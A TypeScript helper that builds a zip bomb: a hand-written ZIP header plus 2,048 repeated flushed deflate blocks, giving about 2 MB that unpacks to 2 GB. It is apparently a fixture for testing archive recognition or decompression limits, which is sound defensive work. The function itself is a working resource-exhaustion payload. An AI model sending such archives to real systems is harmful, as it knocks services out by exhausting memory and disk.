import { constants, deflateRawSync } from 'node:zlib';

/**
 * Makes an archive of 2 MB whose one entry unpacks to 2 GB.
 *
 * @param name of the entry.
 * @returns the archive up to the end of its entry; what only recognises archives reads no further.
 */
export function zipBomb(name: string): Buffer {
  const entry = Buffer.from(name);
  // A flushed block stands for itself, so it can be repeated.
  const block = deflateRawSync(Buffer.alloc(1 << 20, ' '), { finishFlush: constants.Z_FULL_FLUSH });
  const packed = Buffer.concat([...Array(2_048).fill(block), deflateRawSync('')]);
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(8, 8);
  header.writeUInt32LE(packed.length, 18);
  header.writeUInt32LE(2 ** 31, 22);
  header.writeUInt16LE(entry.length, 26);
  return Buffer.concat([header, entry, packed]);
}
